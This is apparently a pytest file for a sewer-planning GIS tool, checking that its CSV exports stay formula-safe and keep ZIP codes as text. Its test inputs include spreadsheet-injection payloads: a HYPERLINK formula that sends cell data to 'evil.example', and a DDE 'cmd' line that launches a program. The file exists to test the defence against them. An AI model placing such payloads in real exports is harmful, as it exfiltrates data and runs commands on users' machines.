"""Every CSV sewerplan writes opens in a spreadsheet without running anything (issue 11, finding 7).

The results CSV from the web page and from `sewerplan analyze --out x.csv`, the network report CSV and the notices
mailing list all go through ``layers.write.write_csv``: formula-safe, every field quoted, UTF-8 with a BOM, ZIP
codes as text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from gisapp.cli import main
from layers.letters import write_mailing_list
from layers.sample import sample_town
from layers.write import write_layers
from tests.conftest import make_app

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "MÜLLER-ŽÁK § 4": "MÜLLER-ŽÁK § 4",
    "O'Brien\rline two": "O'Brien\rline two",
}


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_every_field_quoted(data: bytes) -> None:
    """With QUOTE_ALL every record starts and ends with a quote, so a CR inside a cell cannot end the record."""
    text = data.decode("utf-8-sig")
    for record in text.split('"\r\n'):
        if record:
            assert record.startswith('"'), record[:40]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    path = tmp_path_factory.mktemp("csv") / "town.gpkg"
    town = sample_town(60)
    parcels = town["parcels"]
    for k, value in enumerate(HOSTILE):
        parcels.loc[k, "owner_name"] = value
    parcels.loc[0, "mail_zip"] = "01234"
    write_layers(str(path), town)
    return path


def check_results_csv(data: bytes, n_parcels: int) -> None:
    rows = rows_of(data)
    header, body = rows[0], rows[1:]
    assert len(body) == n_parcels  # no row split by a carriage return
    assert_every_field_quoted(data)
    owners = [dict(zip(header, r, strict=True))["owner_name"] for r in body]
    for value, safe in HOSTILE.items():
        assert safe in owners, value
    assert not any(o[:1] in ("=", "+", "-", "@", "\t", "\r") for o in owners)
    zips = [dict(zip(header, r, strict=True))["mail_zip"] for r in body]
    assert "01234" in zips


def test_analyze_out_csv_is_formula_safe(hostile_store, tmp_path):
    out = tmp_path / "results.csv"
    result = CliRunner().invoke(
        main, ["analyze", "--profile", "fort-plain", "--data", str(hostile_store), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    check_results_csv(out.read_bytes(), 60)


def test_web_results_csv_is_formula_safe(hostile_store, tmp_path):
    store = tmp_path / "store.gpkg"
    store.write_bytes(hostile_store.read_bytes())
    assert (
        CliRunner()
        .invoke(main, ["analyze", "--profile", "fort-plain", "--data", str(store), "--out", str(store)])
        .exit_code
        == 0
    )
    response = make_app(store, tmp_path).test_client().get("/api/results.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    check_results_csv(response.data, 60)


def test_network_report_csv_is_formula_safe(tmp_path):
    town = sample_town(60)
    mains = town["mains"]
    mains.loc[0, "main_id"] = "=1+1"
    mains.loc[0, "diameter_in"] = 4  # below the 8-inch minimum: reported with its ID
    data = tmp_path / "net.gpkg"
    write_layers(str(data), town)
    out = tmp_path / "report.csv"
    result = CliRunner().invoke(
        main, ["network", "check", "--profile", "fort-plain", "--data", str(data), "--out", str(out)]
    )
    assert result.exit_code in (0, 1), result.output
    rows = rows_of(out.read_bytes())
    ids = [dict(zip(rows[0], r, strict=True))["feature_id"] for r in rows[1:]]
    assert "'=1+1" in ids and "=1+1" not in ids


def test_mailing_list_uses_the_same_writer(tmp_path):
    rows = pd.DataFrame({"name_line_1": list(HOSTILE), "zip": ["01234"] * len(HOSTILE)})
    path = write_mailing_list(tmp_path / "m.csv", rows, bom=True)
    data = Path(path).read_bytes()
    assert_every_field_quoted(data)
    body = rows_of(data)[1:]
    assert [r[0] for r in body] == list(HOSTILE.values()) and {r[1] for r in body} == {"01234"}


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (pd.Series([1234, 12345, 123456789]), ["01234", "12345", "123456789"]),
        (pd.Series([1234.0, None]), ["01234", ""]),
        (pd.Series(["01234", "12345-6789"]), ["01234", "12345-6789"]),
    ],
)
def test_zip_codes_stay_text(tmp_path, values, expected):
    from layers.write import write_csv

    path = write_csv(tmp_path / "z.csv", pd.DataFrame({"mail_zip": values, "units": range(len(values))}))
    body = rows_of(Path(path).read_bytes())[1:]
    assert [r[0] for r in body] == expected
    assert [r[1] for r in body] == [str(n) for n in range(len(values))]  # numbers stay numbers


def test_a_gis_opens_the_results_csv_with_zip_codes_as_text_and_numbers_as_numbers(hostile_store, tmp_path):
    """QGIS and GDAL guess a CSV's column types from its values (QGIS's "Add Delimited Text Layer" read ZIP 01234 as
    the integer 1234); the .csvt beside the CSV says them: ZIP codes text, distances numbers, the deadline a date."""
    import pyogrio

    out = tmp_path / "results.csv"
    args = ["analyze", "--profile", "fort-plain", "--data", str(hostile_store), "--out", str(out)]
    assert CliRunner().invoke(main, [*args, "--notice-date", "2027-03-01"]).exit_code == 0
    read = pyogrio.read_dataframe(out, read_geometry=False)  # GDAL's CSV driver reads the .csvt
    assert "01234" in set(read["mail_zip"]) and not pd.api.types.is_numeric_dtype(read["mail_zip"])
    assert pd.api.types.is_float_dtype(read["distance_ft"]) and pd.api.types.is_float_dtype(read["connection_x"])
    assert pd.api.types.is_datetime64_any_dtype(read["deadline"])
    assert set(read["owner_name"]) >= {"MÜLLER-ŽÁK § 4"}
    # the network report's coordinates too
    report = tmp_path / "report.csv"
    net = ["network", "check", "--profile", "fort-plain", "--data", str(hostile_store), "--out", str(report)]
    assert CliRunner().invoke(main, net).exit_code in (0, 1)
    found = pyogrio.read_dataframe(report, read_geometry=False)
    assert (
        len(found)
        and pd.api.types.is_float_dtype(found["x"])
        and not pd.api.types.is_numeric_dtype(found["feature_id"])
    )


@pytest.mark.parametrize("suffix", ["gpkg", "geojson", "parquet"])
def test_zip_codes_given_as_numbers_are_text_in_every_result_format(tmp_path, suffix):
    """A tax roll read from a DBF or a spreadsheet gives ZIP codes as numbers (1234, 12203.0); the CSV wrote them
    01234 and 12203, but the GeoPackage, GeoJSON and GeoParquet results kept them numbers, 1234 and 12203.0 in QGIS."""
    import geopandas as gpd
    import pyogrio

    town = sample_town(60)
    town["parcels"]["site_zip"] = 1234
    town["parcels"]["mail_zip"] = 12203.0
    write_layers(str(tmp_path / "town.gpkg"), town)
    out = tmp_path / f"results.{suffix}"
    args = ["analyze", "--profile", "fort-plain", "--data", str(tmp_path / "town.gpkg"), "--out", str(out)]
    assert CliRunner().invoke(main, args).exit_code == 0
    layer = {"layer": "parcel_results"} if suffix == "gpkg" else {}
    read = gpd.read_parquet(out) if suffix == "parquet" else pyogrio.read_dataframe(out, read_geometry=False, **layer)
    assert set(read["site_zip"]) == {"01234"} and set(read["mail_zip"]) == {"12203"}


@pytest.mark.parametrize(
    ("command", "lead"),
    [
        (("network", "check"), "Report written to"),
        (("buildings",), "Building results written to"),
        (("duties",), "Results written to"),
    ],
)
def test_every_csv_written_with_its_csvt_names_the_csvt(hostile_store, tmp_path, command, lead):
    """The CSVs a GIS opens get a .csvt beside them, and the command names it: it said only the .csv, so a user
    who copied or mailed the file left the .csvt behind and QGIS read ZIP code 01234 as the number 1234."""
    out = tmp_path / "report.csv"
    args = [*command, "--profile", "fort-plain", "--data", str(hostile_store), "--out", str(out)]
    result = CliRunner(env={"COLUMNS": "400"}).invoke(main, args, catch_exceptions=False)
    assert result.exit_code in (0, 1), result.output  # a network check with findings exits 1
    said = " ".join(result.output.split())
    assert (
        f"{lead} {out}, with report.csvt beside it (the type of each column, so QGIS keeps ZIP codes as text)." in said
    ), said[-400:]
    assert (tmp_path / "report.csvt").exists()
